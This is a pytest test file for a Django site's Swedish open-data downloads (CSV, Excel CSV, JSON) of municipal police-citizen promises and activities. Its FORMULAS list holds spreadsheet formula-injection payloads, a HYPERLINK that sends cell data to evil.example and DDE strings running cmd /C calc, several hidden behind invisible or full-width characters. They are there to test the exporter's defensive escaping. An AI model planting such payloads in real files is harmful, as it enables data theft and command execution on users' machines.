"""Open data: the documentation page and the CSV and JSON downloads, whole files or an error."""

import csv
import dataclasses
import datetime
import gc
import io
import json
import re
import time
from decimal import Decimal
from html import unescape
from pathlib import Path
from types import SimpleNamespace

import hypothesis
import pytest
from django.conf import settings
from django.core.cache import caches
from django.core.files.base import ContentFile
from django.core.files.storage import FileSystemStorage, default_storage
from django.db import OperationalError, connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from django.utils.html import escape
from django.utils.translation import gettext, trans_real
from hypothesis import strategies as st

from activities.models import ActivityStatus, Responsible
from activities.spreadsheet import safe_cell
from config import public_cache
from followups import opendata
from followups.opendata import DATASETS, DATASETS_BY_SLUG
from followups.opendata import files as opendata_files
from followups.opendata import rows as opendata_rows
from followups.opendata.datasets import BOOLEAN
from followups.opendata.datasets.columns import CODE
from followups.opendata.files import EXPORTS_FOLDER, _building_key, _csv_value, _store
from promises.models import PeriodState, Theme
from tests import factories


def _day() -> str:
    """The day a download's name ends with: today's, its figures' day."""
    return timezone.localdate().isoformat()


D = datetime.date

# The documented column names: changing one breaks every user of the data, so they are spelled
# out here rather than read from the code.
COLUMNS = {
    "kommuner": [
        "municipality_code",
        "municipality_name",
        "municipality_slug",
        "county_code",
        "county_name",
        "police_region",
        "published_periods",
        "active_periods",
        "url",
    ],
    "perioder": [
        "period_id",
        "period_slug",
        "municipality_code",
        "municipality_name",
        "area_name",
        "local_police_area",
        "parties",
        "start_date",
        "end_date",
        "year_only",
        "state",
        "closed_date",
        "signed_date",
        "decision_body",
        "decision_date",
        "decision_reference",
        "active",
        "registered",
        "source_url",
        "url",
    ],
    "loften": [
        "promise_id",
        "period_id",
        "period_slug",
        "municipality_code",
        "municipality_name",
        "area_name",
        "position",
        "title",
        "description",
        "themes",
        "url",
    ],
    "aktiviteter": [
        "activity_id",
        "period_id",
        "period_slug",
        "municipality_code",
        "municipality_name",
        "area_name",
        "position",
        "title",
        "description",
        "promise_ids",
        "responsible",
        "responsible_other",
        "partners",
        "target_comparator",
        "target_value",
        "target_unit",
        "target_scope",
        "status",
        "done_total",
        "current_span_start",
        "current_span_end",
        "current_span_done",
        "current_span_target",
        "average_so_far",
        "pace_status",
        "url",
    ],
    "genomforda-aktiviteter": [
        "log_id",
        "activity_id",
        "activity_title",
        "target_unit",
        "period_id",
        "period_slug",
        "municipality_code",
        "municipality_name",
        "area_name",
        "date",
        "quantity",
        "place",
        "summary",
        "logged_on",
    ],
}
FORMATS = {"csv": "text/csv; charset=utf-8", "json": "application/json"}
SECRETS = (
    "HIDDEN",
    "INTERNAL-NOTE-SECRET",
    "INTERNAL-MINUTES-SECRET",
    "Hemligkontakt",
    "hemlig@example.org",
    "polis.persson",
    "Dubblett-skäl",
)


@pytest.fixture(autouse=True)
def _media_root(settings, tmp_path):
    """Built files are kept in a folder of the test's own."""
    settings.MEDIA_ROOT = str(tmp_path / "media")


def dataset_path(dataset: str, suffix: str) -> str:
    """Where `dataset` downloads: for the whole country, or (offered per municipality only)
    for Tranås, the municipality of the published periods."""
    if DATASETS_BY_SLUG[dataset].national:
        return f"/oppna-data/{dataset}{suffix}"
    return f"/kommuner/tranas/oppna-data/{dataset}{suffix}"


def download(client, url: str, **headers):
    """A whole download: answered 200 with a Content-Length that is the length of the body."""
    response = client.get(url, **headers)
    assert response.status_code == 200, url
    assert response.streaming is True
    body = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(body), url
    return response, body


def column_names_of(headings: list[str]) -> list[str]:
    """The column names of a CSV for Excel's header row: the dataset's whose Swedish headings it
    has, so that its rows can be read by name as the other forms' are."""
    matches = [dataset.column_names for dataset in DATASETS if dataset.column_headings == headings]
    assert len(matches) == 1, f"No dataset has the headings {headings}"
    return matches[0]


def rows(fmt: str, body: bytes) -> tuple[list[str], list[dict]]:
    """The column names and the rows of a download, all values as the format writes them (the
    CSV for Excel's by the column names its headings stand for)."""
    if fmt == "csv":
        assert not body.startswith(b"\xef\xbb\xbf")  # standard CSV: no BOM
        reader = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
        return list(reader.fieldnames), list(reader)
    if fmt == "excel":
        assert body.startswith(b"\xef\xbb\xbf")  # the BOM, for Excel
        reader = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
        names = column_names_of(next(reader))
        return names, [dict(zip(names, cells, strict=True)) for cells in reader]
    assert not body.startswith(b"\xef\xbb\xbf")
    data = json.loads(body.decode("utf-8"))
    assert isinstance(data, list)
    return (list(data[0]) if data else []), data


@pytest.fixture
def known(django_user_model):
    """Tranås: a closed 2024 period and a period in force; Vetlanda: periods never published."""
    officer = django_user_model.objects.create_user("polis.persson", password="x" * 20)
    today = timezone.localdate()
    theme = Theme.objects.get_or_create(slug="trafik", defaults={"name": "Trafik"})[0]

    closed = factories.period(
        "tranas",
        start=D(2024, 1, 1),
        end=D(2024, 12, 31),
        state=PeriodState.CLOSED,
        slug="2024",
        area_name="Södra Ånäs",
        decision_body="Kommunstyrelsen",
        decision_reference="KS 2023/123",
        contact_name="Kim Hemligkontakt",
        contact_email="hemlig@example.org",
        contact_is_public=False,
    )
    promise = factories.promise(closed, title="Öka tryggheten på Storgatan i Tranås")
    promise.themes.add(theme)
    controls = factories.activity(
        closed, title="Trafikkontroller", target=("at_least", 15, "trafikkontroller", "period")
    )
    controls.promises.add(promise)
    factories.log(
        controls, D(2024, 3, 1), 2, reported_by=officer, internal_note="INTERNAL-NOTE-SECRET"
    )
    factories.log(controls, D(2024, 5, 1), 3)
    factories.log(
        controls,
        D(2024, 6, 1),
        10,
        withdrawn_at=timezone.now(),
        withdrawn_by=officer,
        withdrawal_reason="Dubblett-skäl",
    )
    factories.log(controls, D(2025, 2, 1), 7)  # outside the period: never counted
    factories.activity(
        closed,
        title="Trygghetsvandring",
        target=None,
        responsible=Responsible.OTHER,
        responsible_other="Räddningstjänsten",
        status=ActivityStatus.DONE,
    )
    factories.meeting(
        closed, D(2024, 4, 30), public_summary="Bra", internal_minutes="INTERNAL-MINUTES-SECRET"
    )

    current = factories.period(
        "tranas",
        start=today - datetime.timedelta(days=30),
        end=today + datetime.timedelta(days=300),
        slug="nu",
    )
    walks = factories.activity(
        current, title="Nattvandringar", target=("at_least", 20, "pass", "period")
    )
    factories.log(walks, today, 4)

    for state in (PeriodState.DRAFT, PeriodState.CONSULTATION, PeriodState.DECIDED):
        hidden = factories.period("vetlanda", state=state, slug=f"hidden-{state}")
        factories.promise(hidden, title=f"HIDDEN promise {state}")
        hidden_activity = factories.activity(hidden, title=f"HIDDEN activity {state}")
        factories.log(hidden_activity, today, 99)
    return {"closed": closed, "current": current, "controls": controls, "walks": walks}


def test_documented_columns_are_the_exported_columns():
    # The follow-up datasets' columns are spelled out with their tests.
    from tests.followups.test_opendata_followups import COLUMNS as FOLLOW_UP_COLUMNS
    from tests.followups.test_opendata_revisions import COLUMNS as REVISION_COLUMNS

    documented = {dataset.slug: dataset.column_names for dataset in DATASETS}
    assert documented == COLUMNS | FOLLOW_UP_COLUMNS | REVISION_COLUMNS


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("dataset", COLUMNS)
def test_every_dataset_downloads_in_every_format(client, known, dataset, fmt):
    response, body = download(client, dataset_path(dataset, f".{fmt}"))
    assert response["Content-Type"] == FORMATS[fmt]
    place = "" if DATASETS_BY_SLUG[dataset].national else "tranas-"
    assert response["Content-Disposition"] == (
        f'attachment; filename="medborgarloften-{place}{dataset}-{_day()}.{fmt}"'
    )
    names, data = rows(fmt, body)
    assert names == COLUMNS[dataset]
    assert data
    assert all(list(row) == COLUMNS[dataset] for row in data)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("dataset", COLUMNS)
def test_exports_never_contain_unpublished_periods_or_internal_fields(client, known, dataset, fmt):
    _response, body = download(client, dataset_path(dataset, f".{fmt}"))
    for secret in SECRETS:
        assert secret.encode() not in body, secret
    assert b"hidden-" not in body


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_activity_progress_counts_only_non_withdrawn_logs_inside_the_period(client, known, fmt):
    _response, body = download(client, f"/oppna-data/aktiviteter.{fmt}")
    _names, data = rows(fmt, body)
    by_title = {row["title"]: row for row in data}
    assert set(by_title) == {"Trafikkontroller", "Trygghetsvandring", "Nattvandringar"}
    controls, walk, night = (
        by_title["Trafikkontroller"],
        by_title["Trygghetsvandring"],
        by_title["Nattvandringar"],
    )
    current = known["current"]
    empty = "" if fmt == "csv" else None
    as_int = str if fmt == "csv" else int
    assert controls["done_total"] == as_int(5)  # 2 + 3; withdrawn 10 and outside 7 excluded
    assert controls["target_comparator"] == "at_least"
    assert controls["target_value"] == as_int(15)
    assert controls["target_unit"] == "trafikkontroller"
    assert controls["target_scope"] == "period"
    assert controls["pace_status"] == "not_achieved"
    # A target's pace is pace_status; its never-set "planned" would be an invented status.
    assert controls["status"] == ""
    assert controls["current_span_start"] == empty
    assert controls["municipality_name"] == "Tranås"
    assert controls["area_name"] == "Södra Ånäs"
    assert controls["activity_id"] == as_int(known["controls"].pk)
    # The activity's own page, which answers.
    assert controls["url"] == (
        f"{settings.SITE_URL}/kommuner/tranas/2024/aktiviteter/{known['controls'].pk}/"
    )
    assert client.get(controls["url"].removeprefix(settings.SITE_URL)).status_code == 200
    promise_id = known["controls"].promises.get().pk
    assert controls["promise_ids"] == (str(promise_id) if fmt == "csv" else [promise_id])

    assert walk["responsible"] == "other"
    assert walk["responsible_other"] == "Räddningstjänsten"
    assert walk["status"] == "done"
    assert walk["target_value"] == empty
    assert walk["pace_status"] == ""

    assert night["done_total"] == as_int(4)
    assert night["current_span_start"] == current.start_date.isoformat()
    assert night["current_span_end"] == current.end_date.isoformat()
    assert night["current_span_done"] == as_int(4)
    assert night["current_span_target"] == as_int(20)
    assert night["pace_status"] in {"on_track", "behind"}


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_completed_activities_are_the_public_fields_of_the_logs_not_withdrawn(client, known, fmt):
    today = timezone.localdate()
    yesterday = today - datetime.timedelta(days=1)
    walks, controls, closed = known["walks"], known["controls"], known["closed"]
    factories.log(walks, yesterday, 2, place="Storgatan", summary="Lugn kväll vid torget.")
    _response, body = download(client, dataset_path("genomforda-aktiviteter", f".{fmt}"))
    _names, data = rows(fmt, body)
    as_int = str if fmt == "csv" else int
    # The activities' order (as in the activities dataset), then the date; the withdrawn log
    # and those of unpublished periods are left out. (The 2025 log, dated after its period's
    # end, is shown though it does not count towards progress.)
    assert [
        (row["activity_id"], row["date"], row["quantity"], row["place"], row["summary"])
        for row in data
    ] == [
        (as_int(controls.pk), "2024-03-01", as_int(2), "", ""),
        (as_int(controls.pk), "2024-05-01", as_int(3), "", ""),
        (as_int(controls.pk), "2025-02-01", as_int(7), "", ""),
        (as_int(walks.pk), yesterday.isoformat(), as_int(2), "Storgatan", "Lugn kväll vid torget."),
        (as_int(walks.pk), today.isoformat(), as_int(4), "", ""),
    ]
    first = data[0]
    log = controls.logs.get(date=D(2024, 3, 1))
    assert first["log_id"] == as_int(log.pk)
    # Named, so that the file reads alone (a journalist had to join it with another).
    assert (first["activity_title"], first["target_unit"]) == (
        "Trafikkontroller",
        "trafikkontroller",
    )
    assert first["period_id"] == as_int(closed.pk)
    assert (first["period_slug"], first["area_name"]) == ("2024", "Södra Ånäs")
    assert (first["municipality_code"], first["municipality_name"]) == ("0687", "Tranås")
    # The ids lead to the activities dataset.
    _r, activities = download(client, f"/oppna-data/aktiviteter.{fmt}")
    activity_ids = {row["activity_id"] for row in rows(fmt, activities)[1]}
    assert {row["activity_id"] for row in data} <= activity_ids


@pytest.mark.django_db
def test_periods_promises_and_municipalities_values(client, known):
    _r, body = download(client, "/oppna-data/perioder.json")
    periods = {row["period_slug"]: row for row in json.loads(body)}
    assert set(periods) == {"2024", "nu"}
    assert periods["2024"]["state"] == "closed"
    assert periods["2024"]["active"] is False
    assert periods["nu"]["active"] is True
    assert periods["2024"]["start_date"] == "2024-01-01"
    assert periods["2024"]["decision_reference"] == "KS 2023/123"

    _r, body = download(client, "/oppna-data/loften.csv")
    _names, promises = rows("csv", body)
    assert [(row["title"], row["themes"]) for row in promises] == [
        ("Öka tryggheten på Storgatan i Tranås", "Trafik")
    ]

    _r, body = download(client, "/oppna-data/kommuner.json")
    municipalities = {row["municipality_code"]: row for row in json.loads(body)}
    assert len(municipalities) == 290
    tranas = municipalities["0687"]
    assert tranas["municipality_name"] == "Tranås"
    assert (tranas["published_periods"], tranas["active_periods"]) == (2, 1)
    vetlanda = municipalities["0685"]
    assert (vetlanda["published_periods"], vetlanda["active_periods"]) == (0, 0)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_utf8_text_is_intact(client, known, fmt):
    _response, body = download(client, f"/oppna-data/loften.{fmt}")
    assert "Öka tryggheten på Storgatan i Tranås".encode() in body


@pytest.mark.django_db
@pytest.mark.parametrize("dataset", COLUMNS)
def test_municipality_download_has_only_that_municipality(client, known, dataset):
    visible = factories.period("vetlanda", slug="synlig")
    factories.promise(visible, title="Vetlandas löfte")
    factories.log(factories.activity(visible, title="Vetlandas aktivitet"), visible.start_date)
    response, body = download(client, f"/kommuner/vetlanda/oppna-data/{dataset}.json")
    assert response["Content-Disposition"] == (
        f'attachment; filename="medborgarloften-vetlanda-{dataset}-{_day()}.json"'
    )
    data = json.loads(body)
    assert data
    assert {row["municipality_code"] for row in data} == {"0685"}
    assert b"HIDDEN" not in body


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "/oppna-data/okand.csv",
        "/oppna-data/aktiviteter.xml",
        "/oppna-data/aktiviteter",
        "/kommuner/vetlanda/oppna-data/okand.json",
        "/kommuner/vetlanda/oppna-data/loften.xlsx",
        "/kommuner/finns-inte/oppna-data/loften.csv",
    ],
)
def test_unknown_dataset_format_or_municipality_is_404(client, url):
    assert client.get(url).status_code == 404


def build_activities(municipality_slug: str, size: int, slug: str) -> None:
    today = timezone.localdate()
    period = factories.period(
        municipality_slug,
        start=today - datetime.timedelta(days=30),
        end=today + datetime.timedelta(days=300),
        slug=slug,
    )
    theme = Theme.objects.get_or_create(slug="trafik", defaults={"name": "Trafik"})[0]
    for i in range(size):
        promise = factories.promise(period, title=f"Löfte {i}", position=i + 1)
        promise.themes.add(theme)
        activity = factories.activity(period, title=f"Aktivitet {i}", position=i + 1)
        activity.promises.add(promise)
        for day in range(3):
            factories.log(activity, today - datetime.timedelta(days=day))


DOWNLOAD_QUERIES = {
    "kommuner": 1,
    "perioder": 1,
    "loften": 2,
    "aktiviteter": 4,  # activities, their periods, promise ids, span sums
    "genomforda-aktiviteter": 1,
}
PREFIXES = ("", "/kommuner/vetlanda")


def measure_downloads(client, datasets) -> dict:
    """Each dataset's national and per-municipality CSV: its status, queries and lines."""
    results = {}
    for dataset in datasets:
        for prefix in PREFIXES:
            with CaptureQueriesContext(connection) as queries:
                response = client.get(f"{prefix}/oppna-data/{dataset}.csv")
                body = (
                    b"".join(response.streaming_content) if response.streaming else response.content
                )
            results[dataset, prefix] = (
                response.status_code,
                len(queries.captured_queries),
                body.count(b"\n"),
            )
    return results


@pytest.fixture(scope="module")
def download_growth(module_data):
    """Every download's status, queries and lines with one period of one activity, and again
    with 180 more activities in two municipalities: the data are built once for the module."""

    with module_data():
        client = Client()
        build_activities("vetlanda", 1, "forsta")
        small = measure_downloads(client, DOWNLOAD_QUERIES)
        for i in range(9):
            build_activities("vetlanda", 10, f"fler-{i}")
            build_activities("tranas", 10, f"fler-{i}")
        return small, measure_downloads(client, DOWNLOAD_QUERIES)


@pytest.mark.django_db
@pytest.mark.parametrize("dataset", DOWNLOAD_QUERIES)
@pytest.mark.parametrize("prefix", PREFIXES)
def test_download_queries_do_not_grow_with_data(download_growth, dataset, prefix):
    small, large = (sizes[dataset, prefix] for sizes in download_growth)
    if not prefix and not DATASETS_BY_SLUG[dataset].national:
        assert small[0] == large[0] == 404
        return
    # The municipality lookup is one more query.
    queries = DOWNLOAD_QUERIES[dataset] + (1 if prefix else 0)
    assert (small[0], small[1]) == (large[0], large[1]) == (200, queries)
    if dataset != "kommuner":
        assert large[2] > 10 * small[2] - 10


@pytest.mark.django_db
def test_open_data_page_documents_datasets_licence_and_downloads(client):
    response = client.get("/oppna-data/")
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("<h1") == 1
    assert "creativecommons.org/publicdomain/zero/1.0/" in html
    assert "UTF-8" in html and "BOM" in html
    for dataset, columns in COLUMNS.items():
        for fmt in FORMATS:
            national = f'href="/oppna-data/{dataset}.{fmt}"' in html
            assert national is DATASETS_BY_SLUG[dataset].national
        for column in columns:
            assert f"<code>{column}</code>" in html
    # Every table has a caption and its header cells a scope.
    assert html.count("<table") == html.count("<caption") > 0
    assert re.search(r"<th(?=[\s>])(?![^>]*scope=)", html) is None
    assert "/kommuner/vetlanda/oppna-data/" not in html


@pytest.mark.django_db
def test_open_data_page_links_a_chosen_municipality(client):
    html = client.get("/oppna-data/", {"kommun": "vetlanda"}).content.decode()
    for dataset in COLUMNS:
        assert f'href="/kommuner/vetlanda/oppna-data/{dataset}.csv"' in html
    assert '<option value="vetlanda" selected>' in html
    # The downloads come first, before the documentation of licence, formats and columns (a
    # phone reached them only after some 3,000 px).
    first_link = html.index('href="/kommuner/vetlanda/oppna-data/')
    assert first_link < html.index('id="licence-heading"') < html.index('id="columns-heading"')


@pytest.mark.django_db
def test_open_data_page_lists_the_municipalities_in_swedish_order(client):
    names = [m.name for m in client.get("/oppna-data/").context["municipalities"]]
    assert len(names) == 290
    # å, ä, ö after z, in that order (a database's collation may put ä before å).
    assert names.index("Håbo") < names.index("Hässleholm") < names.index("Höör")
    assert names.index("Vårgårda") < names.index("Värmdö") < names.index("Växjö")
    assert names[-1] == "Övertorneå"


@pytest.mark.django_db
def test_open_data_page_ignores_an_unknown_municipality(client):
    response = client.get("/oppna-data/", {"kommun": "<script>"})
    assert response.status_code == 200
    assert response.context["chosen"] is None


@pytest.mark.django_db
def test_open_data_page_queries_are_constant(client, django_assert_num_queries):
    with django_assert_num_queries(1):
        assert client.get("/oppna-data/", {"kommun": "vetlanda"}).status_code == 200
    for i in range(3):
        build_activities("vetlanda", 10, f"fler-{i}")
    with django_assert_num_queries(1):
        assert client.get("/oppna-data/", {"kommun": "vetlanda"}).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize(("fmt", "expected"), [("csv", "0.75"), ("json", 0.75)])
def test_average_targets_export_the_average_so_far(client, fmt, expected):
    today = timezone.localdate()
    period = factories.period(
        "vetlanda", start=today - datetime.timedelta(days=30), end=today + datetime.timedelta(300)
    )
    activity = factories.activity(period, target=("at_least", 2, "pass", "average_week"))
    for day in range(3):
        factories.log(activity, today - datetime.timedelta(days=day))
    _response, body = download(client, f"/oppna-data/aktiviteter.{fmt}")
    (row,) = rows(fmt, body)[1]
    # Three logs over the four whole weeks elapsed.
    assert row["average_so_far"] == expected
    assert row["current_span_start"] == ("" if fmt == "csv" else None)
    assert row["pace_status"] == "behind"


# Spreadsheet safety and the CSV for Excel

# Text that Excel, LibreOffice or Google Sheets would run as a formula (OWASP's examples).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTabb=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u00a0=1+1",
    '\uff1dHYPERLINK("http://evil.example/")',
    "\u3000\uff0bcmd|' /C calc'!A0",
    "\u200b=1+1",
    "\ufeff\u2060@SUM(1+1)",
)
CSV_FORMS = {"csv": ".csv", "excel": "-excel.csv"}


def guarded(text: str) -> str:
    """`text` as a CSV cell: an apostrophe first, and one after a line break it starts with (a
    program splitting on line breaks makes a cell of what follows)."""
    if text[0] in "\r\n":
        return "'" + text[0] + "'" + text[1:]
    return "'" + text


@pytest.fixture
def formulas():
    """A signed period whose texts start like formulas, as the editor accepts them."""
    today = timezone.localdate()
    period = factories.period(
        "tranas",
        start=today - datetime.timedelta(days=30),
        end=today + datetime.timedelta(days=300),
        slug="formler",
        area_name=FORMULAS[5],
    )
    theme = Theme.objects.create(slug="formel", name="=1+1")
    promise = factories.promise(period, title=FORMULAS[0], description=FORMULAS[1])
    promise.themes.add(theme)
    activity = factories.activity(
        period,
        title=FORMULAS[2],
        description=FORMULAS[3],
        target=("at_least", 20, FORMULAS[4], "period"),
    )
    activity.promises.add(promise)
    factories.log(activity, today, 3)
    return SimpleNamespace(period=period, promise=promise, activity=activity)


@pytest.mark.parametrize("text", FORMULAS)
def test_every_start_a_spreadsheet_runs_as_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == guarded(text)


@pytest.mark.parametrize(
    "value", ["Trafikkontroll", " Trafikkontroll i centrum", "E-post: a@b.se", "1 + 1 = 2", 12, -3]
)
def test_text_that_is_no_formula_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("form", CSV_FORMS)
def test_promise_texts_that_start_like_formulas_get_an_apostrophe_in_csv(client, formulas, form):
    _response, body = download(client, f"/oppna-data/loften{CSV_FORMS[form]}")
    (row,) = rows(form, body)[1]
    assert row["title"] == "'" + FORMULAS[0]
    assert row["description"] == "'" + FORMULAS[1]
    assert row["area_name"] == guarded(FORMULAS[5])
    assert row["themes"] == "'=1+1"
    # Numbers stay numbers.
    assert row["promise_id"] == str(formulas.promise.pk)
    assert row["period_id"] == str(formulas.period.pk)
    assert row["position"] == "1"


@pytest.mark.django_db
@pytest.mark.parametrize("form", CSV_FORMS)
def test_activity_texts_that_start_like_formulas_get_an_apostrophe_in_csv(client, formulas, form):
    _response, body = download(client, f"/oppna-data/aktiviteter{CSV_FORMS[form]}")
    (row,) = rows(form, body)[1]
    assert row["title"] == "'" + FORMULAS[2]
    assert row["description"] == "'" + FORMULAS[3]
    assert row["target_unit"] == "'" + FORMULAS[4]
    assert row["activity_id"] == str(formulas.activity.pk)
    assert (row["target_value"], row["done_total"]) == ("20", "3")
    assert row["current_span_start"] == formulas.period.start_date.isoformat()
    # No cell of the file starts like a formula.
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.django_db
@pytest.mark.parametrize("form", [*CSV_FORMS, "json"])
def test_log_places_and_summaries_that_start_like_formulas(client, formulas, form):
    factories.log(
        formulas.activity, formulas.period.start_date, 2, place=FORMULAS[3], summary=FORMULAS[0]
    )
    later = formulas.period.start_date + datetime.timedelta(days=1)
    factories.log(formulas.activity, later, 1, place=FORMULAS[8], summary=FORMULAS[6])
    suffix = CSV_FORMS.get(form, ".json")
    _response, body = download(client, dataset_path("genomforda-aktiviteter", suffix))
    logged = {row["date"]: row for row in rows(form, body)[1]}[
        formulas.period.start_date.isoformat()
    ]
    if form == "json":
        assert (logged["place"], logged["summary"]) == (FORMULAS[3], FORMULAS[0])
        assert logged["quantity"] == 2
        return
    assert (logged["place"], logged["summary"]) == ("'" + FORMULAS[3], "'" + FORMULAS[0])
    assert logged["area_name"] == guarded(FORMULAS[5])
    assert logged["quantity"] == "2"
    # A line break, spaces or a full-width sign before the formula do not hide it.
    hidden = {row["date"]: row for row in rows(form, body)[1]}[later.isoformat()]
    assert (hidden["place"], hidden["summary"]) == ("'" + FORMULAS[8], guarded(FORMULAS[6]))


@pytest.mark.django_db
def test_json_keeps_texts_that_start_like_formulas_unchanged(client, formulas):
    _r, body = download(client, "/oppna-data/loften.json")
    (promise,) = json.loads(body)
    assert (promise["title"], promise["description"]) == (FORMULAS[0], FORMULAS[1])
    assert (promise["area_name"], promise["themes"]) == (FORMULAS[5], ["=1+1"])
    _r, body = download(client, "/oppna-data/aktiviteter.json")
    (activity,) = json.loads(body)
    assert (activity["title"], activity["description"]) == (FORMULAS[2], FORMULAS[3])
    assert activity["target_unit"] == FORMULAS[4]


def test_csv_cells_change_text_only_not_numbers_or_dates():
    assert _csv_value("-2+3") == "'-2+3"
    assert _csv_value("Trafik") == "Trafik"
    assert _csv_value(-3) == "-3"
    assert _csv_value(Decimal("-0.75")) == "-0.75"
    assert _csv_value(D(2026, 1, 1)) == "2026-01-01"
    assert _csv_value(["=a", "b"]) == "'=a; b"
    assert _csv_value([3, 4]) == "3; 4"


@pytest.mark.django_db
@pytest.mark.parametrize("dataset", COLUMNS)
def test_the_excel_form_has_the_standard_forms_rows_with_semicolons_and_a_bom(
    client, known, formulas, dataset
):
    _r, standard = download(client, dataset_path(dataset, ".csv"))
    response, excel = download(client, dataset_path(dataset, "-excel.csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    place = "" if DATASETS_BY_SLUG[dataset].national else "tranas-"
    assert response["Content-Disposition"] == (
        f'attachment; filename="medborgarloften-{place}{dataset}-excel-{_day()}.csv"'
    )
    headings = ";".join(DATASETS_BY_SLUG[dataset].column_headings)
    assert excel.startswith(b"\xef\xbb\xbf" + headings.encode() + b"\r\n")
    assert standard.startswith(",".join(COLUMNS[dataset]).encode() + b"\r\n")
    assert excel.endswith(b"\r\n") and standard.endswith(b"\r\n")
    # The same cells, but for true and false, which Swedish Excel reads as ja and nej, and the
    # codes, written as the words the open data page gives them (a journalist read "police").
    yes_no = {"true": "ja", "false": "nej"}
    booleans = {c.name for c in DATASETS_BY_SLUG[dataset].columns if c.type == BOOLEAN}
    labels = {name: dict(codes) for name, codes in opendata.code_lists()}
    coded = {c.name for c in DATASETS_BY_SLUG[dataset].columns if c.type == CODE}
    names, standard_rows = rows("csv", standard)
    for row in standard_rows:
        row.update({name: yes_no[row[name]] for name in booleans})
        row.update({name: str(labels[name].get(row[name], row[name])) for name in coded})
    assert rows("excel", excel) == (names, standard_rows)
    if dataset == "aktiviteter":
        first = rows("excel", excel)[1][0]
        assert (first["responsible"], first["target_comparator"]) == ("Polisen", "minst")


@pytest.mark.django_db
def test_the_excel_form_of_one_municipality(client, known):
    response, body = download(client, "/kommuner/tranas/oppna-data/aktiviteter-excel.csv")
    assert response["Content-Disposition"] == (
        f'attachment; filename="medborgarloften-tranas-aktiviteter-excel-{_day()}.csv"'
    )
    _names, data = rows("excel", body)
    assert {row["municipality_name"] for row in data} == {"Tranås"}
    assert {row["title"] for row in data} == {
        "Trafikkontroller",
        "Trygghetsvandring",
        "Nattvandringar",
    }

    _r, body = download(client, "/kommuner/tranas/oppna-data/loften-excel.csv")
    assert "Öka tryggheten på Storgatan i Tranås".encode() in body


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "/oppna-data/okand-excel.csv",
        "/oppna-data/aktiviteter.excel",
        "/oppna-data/aktiviteter-excel.json",
        "/kommuner/finns-inte/oppna-data/loften-excel.csv",
        "/kommuner/vetlanda/oppna-data/loften.excel",
    ],
)
def test_unknown_excel_downloads_are_404(client, url):
    assert client.get(url).status_code == 404


@pytest.mark.django_db
def test_open_data_page_offers_and_explains_both_csv_forms(client):
    html = client.get("/oppna-data/", {"kommun": "vetlanda"}).content.decode()
    for dataset in COLUMNS:
        national = DATASETS_BY_SLUG[dataset].national
        assert (f'href="/oppna-data/{dataset}-excel.csv"' in html) is national
        assert f'href="/kommuner/vetlanda/oppna-data/{dataset}-excel.csv"' in html
        assert (f'href="/oppna-data/{dataset}.csv"' in html) is national
    assert gettext("CSV for Excel") in html
    assert "RFC 4180" in html and "BOM" in html
    # Which cells get an apostrophe, and why.
    text = unescape(html)
    assert "=, +, -, @" in text
    assert "apostrof (')" in text
    assert "formel" in text


@pytest.mark.django_db
def test_the_excel_form_keeps_the_codes_leading_zero_and_the_page_says_how_to_keep_it(
    client, known
):
    # An analyst joining the file with SCB's tables on the municipality code: Excel opened by a
    # double click turns 0687 into 687, which a CSV cannot prevent, and the page did not say so.
    _r, body = download(client, "/oppna-data/kommuner-excel.csv")
    _names, data = rows("excel", body)
    tranas = next(row for row in data if row["municipality_name"] == "Tranås")
    assert (tranas["municipality_code"], tranas["county_code"]) == ("0687", "06")

    text = unescape(client.get("/oppna-data/").content.decode())
    assert "kommunkoden 0114 visas då som 114 och länskoden 01 som 1" in text
    assert "(Data, Från text/CSV)" in text
    # The columns as Excel shows them, by their headings.
    assert "Text som datatyp för kolumnerna Kommunkod och Länskod" in text


# Swedish headings in the CSV for Excel

# What a reader of the spreadsheet sees above some columns, where the same name means different
# things in different datasets, or where municipal staff asked for it by that word.
HEADINGS = {
    "kommuner": {"municipality_code": "Kommunkod", "county_code": "Länskod"},
    "perioder": {
        "period_slug": "Period (webbadressdel)",
        "start_date": "Startdatum",
        "active": "Gäller i dag",
        "url": "Länk till periodens sida",
    },
    "loften": {"title": "Löfte", "url": "Länk till periodens sida"},
    "aktiviteter": {
        "municipality_code": "Kommunkod",
        "municipality_name": "Kommun",
        "title": "Aktivitet",
        "target_value": "Mål: antal",
        "done_total": "Genomfört totalt",
        "url": "Länk till aktivitetens sida",
    },
    "bedomningar": {"title": "Löfte eller aktivitet"},
    "redovisningar": {"title": "Rubrik", "text": "Text"},
}


def test_every_column_of_every_dataset_has_a_heading_in_the_swedish_catalogue():
    catalogue = trans_real.translation("sv")._catalog
    for dataset in DATASETS:
        with translation.override("en"):
            english = dataset.column_headings
        for name, source in zip(dataset.column_names, english, strict=True):
            assert source.strip(), (dataset.slug, name)
            # Translated as a heading: not a word of the interface that happens to be the same.
            assert f"open data heading\x04{source}" in catalogue, (dataset.slug, name, source)


@pytest.mark.parametrize("language", ["sv", "en"])
def test_no_two_columns_of_a_dataset_have_the_same_heading(language):
    with translation.override(language):
        for dataset in DATASETS:
            headings = dataset.column_headings
